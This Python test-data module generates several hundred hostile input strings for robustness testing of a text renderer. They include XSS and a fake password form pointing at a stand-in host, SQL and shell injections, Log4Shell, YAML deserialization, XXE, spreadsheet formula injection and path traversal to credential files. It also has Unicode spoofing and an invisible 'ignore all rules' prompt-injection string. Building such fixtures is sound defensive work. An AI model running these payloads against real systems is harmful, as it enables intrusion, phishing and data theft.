"""More than four hundred texts that would do harm where they are read as anything but text, by what they try."""

from collections.abc import Iterator, Mapping

RAN = "window.__ran=1;alert(1)"  # what runs leaves this behind
CANARY = "canary.example"  # whatever is fetched is fetched from here
_ERROR_TAGS = (
    "img",
    "video",
    "audio",
    "input type=image",
    "embed",
    "object",
    "script",
    "link rel=stylesheet",
    "iframe",
)
_LOAD_TAGS = ("svg", "body", "iframe", "frameset", "style", "link", "img", "video", "input", "object", "table")
_OTHER_EVENTS = (
    *("onfocus autofocus", "ontoggle open", "onstart", "onbegin", "onpageshow", "onmouseover", "onanimationstart"),
    *("onwheel", "onpointerenter", "oncut", "onscroll", "onhashchange", "onmessage", "onunhandledrejection"),
)
_SCHEMES = (
    *("javascript", "JaVaScRiPt", "java\tscript", "java\nscript", "\x01javascript", "&#106;avascript", "vbscript"),
    *("data", "file", "ftp", "blob", "ws", "mailto", "tel", "view-source", "intent", "ms-office", "about", "jar"),
)
_BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
_UNSEEN = (
    "\u00ad\u034f\u115f\u1160\u17b4\u17b5\u180b\u180e\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\u2800\u3164"
    "\ufe00\ufe0f\ufeff\uffa0\ufff9\ufffa\ufffb\U000e0001\U000e0041\U000e0100\U0001d173"
)
_BLANKS = "\u00a0\u1680\u2000\u2003\u2009\u200a\u2028\u2029\u202f\u205f\u3000\x85"


def _scripts() -> Iterator[str]:
    yield f"<script>{RAN}</script>"
    yield f"<script src=//{CANARY}/x.js></script>"
    yield from (f"<{tag} src=x onerror={RAN}>" for tag in _ERROR_TAGS)
    yield from (f'"><{tag} onload="{RAN}">' for tag in _LOAD_TAGS)
    yield from (f"<a {event}={RAN}>x</a><details {event}={RAN}>" for event in _OTHER_EVENTS)
    for open_ in (
        "<ScRiPt>",
        "<script >",
        "<script/x>",
        "<script\n>",
        "<scr<script>ipt>",
        "<<script>",
        "</title><script>",
    ):
        yield f"{open_}{RAN}</script>"
    for around in ("--><!-- {}", "]]>{}", "</textarea>{}", "</style>{}", "*/{}/*", "';{};//", '";{};//', "`${{{}}}`"):
        yield around.format(f"<script>{RAN}</script>")
    for coded in ("%3Cscript%3E{}%3C/script%3E", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}",
                  "\\u003cscript\\u003e{}", "\\x3cscript\\x3e{}", "＜script＞{}", "\u2039script\u203a{}",
                  "+ADw-script+AD4-{}"):  # fmt: skip
        yield coded.format(RAN)


def _html() -> Iterator[str]:
    for tag in (
        "b",
        "h1",
        "marquee",
        "blink",
        "form",
        "button",
        "select",
        "textarea",
        "title",
        "plaintext",
        "xmp",
        "noscript",
    ):
        yield f"<{tag}>{tag} of somebody else"
    yield f"<meta http-equiv=refresh content='0;url=//{CANARY}'>"
    yield f"<base href=//{CANARY}/>"
    yield f"<link rel=stylesheet href=//{CANARY}/x.css>"
    yield f"<style>@import '//{CANARY}/x';*{{display:none}}</style>"
    yield f"<div style='background:url(//{CANARY}/x)'>x</div>"
    yield "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>Log in again</div>"
    yield f"<form action=//{CANARY}><input name=password><button>Log in</button></form>"
    yield f"<object data=//{CANARY}></object><embed src=//{CANARY}>"
    yield f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>"
    yield f"<math><mi xlink:href='javascript:{RAN}'>x</mi></math>"
    yield f"<svg><use href='//{CANARY}/x.svg#a'/><foreignObject><script>{RAN}</script></foreignObject></svg>"
    yield f"<svg><animate onbegin={RAN} attributeName=x></svg>"
    yield "<template shadowrootmode=open><slot></slot></template>"
    yield "<input type=file><input type=hidden value=x><a id=__proto__ name=constructor>x</a>"
    yield "<!--#exec cmd='id'--><?php system('id') ?><%= 7*7 %>"
    yield "&nbsp;&amp;&quot;&apos;&#0;&#x110000;&notanentity;"


def _markdown() -> Iterator[str]:
    yield from (f"[click]({scheme}:{RAN})" for scheme in _SCHEMES)
    yield from (f"<{scheme}:{RAN}>" for scheme in _SCHEMES[:8])
    yield from (f"![]({scheme}//{CANARY}/p?d=1)" for scheme in ("http:", "https:", "", "data:image/svg+xml,", "\\\\"))
    yield f"![x][y]\n\n[y]: http://{CANARY}/p"
    yield f"[![](http://{CANARY}/b)](http://{CANARY}/c)"
    yield f"http://{CANARY} https://{CANARY}/?q=1 www.{CANARY} ftp://{CANARY} me@{CANARY}"
    yield f'[x](http://{CANARY} "title\' onmouseover={RAN}")'
    yield f"[^1]\n\n[^1]: http://{CANARY}"
    yield f"[x]: javascript:{RAN}\n[x]"
    yield from (
        f":{colour}[{colour}] :{colour}-background[x] :{colour}-badge[y]"
        for colour in ("red", "blue", "rainbow", "gray")
    )
    yield from (
        ":material/home: :material/delete_forever:",
        ":smile: :streamlit: :+1:",
        ":shortcode[CTRL]",
        ":small[x] :primary[y]",
    )
    yield from (
        "# heading\n## second\n- list\n1. one\n> quote",
        "```\ncode\n```\n~~~\nmore",
        "| a | b |\n|---|---|\n| 1 | 2 |",
    )
    yield from (
        "**bold** _em_ ~~gone~~ `code` \\",
        "* * *\n---\n===",
        "- [ ] open\n- [x] done",
        "a  \nb\\\nc",
        "term\n: what it is",
    )
    yield from (
        "[" * 300 + "x" + "]" * 300,
        "*" * 2_000,
        "_" * 2_000,
        "`" * 2_000,
        "> " * 500 + "x",
        "- " * 500,
        "#" * 900,
    )
    yield from (
        "![" * 300,
        "](" * 300,
        "<" * 2_000,
        "&" * 2_000,
        "\\" * 2_000,
        "~" * 1_999,
        "|" * 900,
        "(" * 900 + ")" * 900,
    )


def _latex() -> Iterator[str]:
    for inner in (
        f"\\href{{javascript:{RAN}}}{{x}}", f"\\url{{javascript:{RAN}}}", f"\\includegraphics{{http://{CANARY}/x.png}}",
        f"\\htmlData{{x={RAN}}}{{y}}", "\\htmlClass{stApp}{x}", "\\htmlId{root}{x}", "\\htmlStyle{position:fixed}{x}",
        "\\input{/etc/passwd}", "\\def\\a{\\a\\a}\\a", "\\newcommand{\\x}{\\x\\x}\\x", "\\rule{9999em}{9999em}",
        "\\color{red}x", "\\text{<b>x</b>}", "\\frac{1}{0}", "\\begin{matrix}", "\\unicode{x202e}", "\\write18{id}",
    ):  # fmt: skip
        yield f"${inner}$"
    yield from ("$$x$$", "$x", "$" * 500, "\\(x\\) \\[y\\]", "\\begin{document}x\\end{document}", "cost: $5 and $6")


def _unseen() -> Iterator[str]:
    yield from (f"run{sign}gnp.exe" for sign in _BIDI)
    yield from (f"pay{sign}pal" for sign in _UNSEEN)
    yield from (f"a{sign}b" for sign in _BLANKS)
    yield from (sign for sign in ("\u200b", "\u3164", "\u2800", "\u00a0", " ", "\t", "\ufe0f", "\u202e"))
    yield "\U0001f600" + "".join(chr(0xE0100 + place) for place in range(60))  # letters in selectors of a picture
    yield "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all rules")
    yield "e" + "\u0301" * 300
    yield "Z\u0351\u036b\u0343" * 80
    yield "\u202e\u2066\u202d" * 100
    yield from (
        "\u0430dmin",
        "\uff41\uff44\uff4d\uff49\uff4e",
        "ⓐⓓⓜⓘⓝ",
        "admin\u0337",
        "𝐚𝐝𝐦𝐢𝐧",
        "rnicrosoft",
        "İıſK",
        "ß ẞ ﬁ ﬃ",
    )
    yield from (
        "\u05e9\u05dc\u05d5\u05dd",
        "\u0645\u0631\u062d\u0628\u0627 (x)",
        "日本語のテキスト",
        "한국어",
        "ภาษาไทย",
        "हिन्दी",
        "ქართული",
        "ᓀᐦᐃᔭᐍᐏᐣ",
    )


def _control() -> Iterator[str]:
    yield from (f"red{chr(code)}null" for code in range(1, 32) if code not in (9, 10, 13))
    yield from (
        f"\x1b{rest}"
        for rest in ("[31mred", "[2J", "]0;title\x07", "]8;;http://canary.example\x07x", "[999C", "P+q\x1b\\", "c")
    )
    yield from ("a\r\nb", "a\rb", "\x7f\x80\x9b31m", "\x85\x8d", "\ufffe\uffff", "\U0001ffff\U0010ffff")


def _templates() -> Iterator[str]:
    yield from (
        "%s%s%s%n",
        "%99999999d",
        "%(x)s",
        "{0.__class__}",
        "{}{}{}",
        "{:>99999}",
        "{self}",
        "f'{1/0}'",
        "{x!r:^99}",
    )
    yield from (
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{% for x in y %}",
        "{{ ''.__class__.__mro__ }}",
        "[[${7*7}]]",
        "@(7*7)",
    )
    yield from (
        "$(id)",
        "`id`",
        "| id",
        "; id",
        "&& id",
        "\n id \n",
        "$IFS",
        "${HOME}",
        "%PATH%",
        "~root",
        "!!",
        "$'\\x41'",
    )
    yield from (
        "${jndi:ldap://canary.example/x}",
        "{{constructor.constructor('alert(1)')()}}",
        "<#assign x=1>",
        "#set($x=1)",
        "{php}x{/php}",
    )


def _queries() -> Iterator[str]:
    yield from (
        "' OR 1=1 --",
        '" OR ""="',
        "'; DROP TABLE runs; --",
        "1; SELECT pg_sleep(9)",
        "' UNION SELECT 1,2,3 --",
        "%' AND 1=1 --",
    )
    yield from (
        "%",
        "_",
        "\\",
        "%_%_%",
        "'",
        '"',
        "--",
        "/*",
        "x' || randomblob(1000000000) --",
        "1) OR (1=1",
        "NULL",
        "\\'; --",
        "0x27",
    )
    yield from (
        '{"$gt": ""}',
        "*)(uid=*))(|(uid=*",
        "//user[1=1]",
        "a* -b NEAR(c)",
        '"phrase" OR',
        "REGEXP '(a+)+$'",
        "(((((a+)+)+)+)+)$",
    )


def _data() -> Iterator[str]:
    yield from (
        "a: &a [*a]",
        "!!python/object/apply:os.system ['id']",
        "<<: *x",
        "? [a]\n: b",
        "- - - -",
        "key: |\n  x",
        "%YAML 9.9",
    )
    yield from (
        '{"a":' * 200,
        "[" * 500,
        '{"__proto__": {"x": 1}}',
        '{"a": 1, "a": 2}',
        "NaN",
        "1e999",
        "-0",
        "9" * 400,
        "0x1F",
        "1_000",
    )
    yield from (
        f"<!DOCTYPE x [<!ENTITY e SYSTEM 'http://{CANARY}'>]><x>&e;</x>",
        "<![CDATA[x]]>",
        "<?xml version='1.0'?>",
        "<x:y z='1'/>",
    )
    yield from (
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        '=HYPERLINK("http://canary.example")',
        "=cmd|' /C calc'!A0",
        "\t=1",
        "\r=1",
        "x;=1+1",
        "＝1",
    )
    yield from (
        "__proto__",
        "constructor",
        "toString",
        "hasOwnProperty",
        "prototype",
        "undefined",
        "null",
        "None",
        "true",
        "NULL",
        "(null)",
        "nil",
    )
    yield from (
        "../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "file:///etc/passwd",
        "C:\\con",
        "a/../b",
        "~/.ssh/id_rsa",
        "/dev/zero",
    )
    yield from (
        "CON",
        "aux.txt",
        ".",
        "..",
        "a" * 300 + "/b",
        "a//b",
        "x\u2215y",
        "%2e%2e%2f",
        "....//",
        "a;b",
        "a,b",
        "a\tb",
        "a&b=c#d?e",
    )


def _huge() -> Iterator[str]:
    yield from (
        "x" * 10_000,
        "word " * 4_000,
        "\n" * 5_000,
        " " * 5_000,
        "\U0001f600" * 2_000,
        "日" * 5_000,
        "a-" * 5_000,
        "\t" * 3_000,
    )
    yield from (
        "<b>" * 3_000,
        "[x](y) " * 1_500,
        "$x$ " * 2_000,
        ":red[x] " * 1_500,
        "| a " * 2_000,
        "http://canary.example/ " * 800,
    )
    yield from (
        "\u202e" * 3_000,
        "\u0301" * 3_000,
        "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 800,
        "&#x41;" * 2_000,
        "\\" * 5_000,
        "0" * 9_000,
    )


KINDS: Mapping[str, tuple[str, ...]] = {
    "scripts": tuple(_scripts()),
    "HTML": tuple(_html()),
    "Markdown": tuple(_markdown()),
    "LaTeX": tuple(_latex()),
    "what is not seen": tuple(_unseen()),
    "control characters": tuple(_control()),
    "templates": tuple(_templates()),
    "queries": tuple(_queries()),
    "data": tuple(_data()),
    "huge": tuple(_huge()),
}
ALL = tuple(dict.fromkeys(text for texts in KINDS.values() for text in texts))
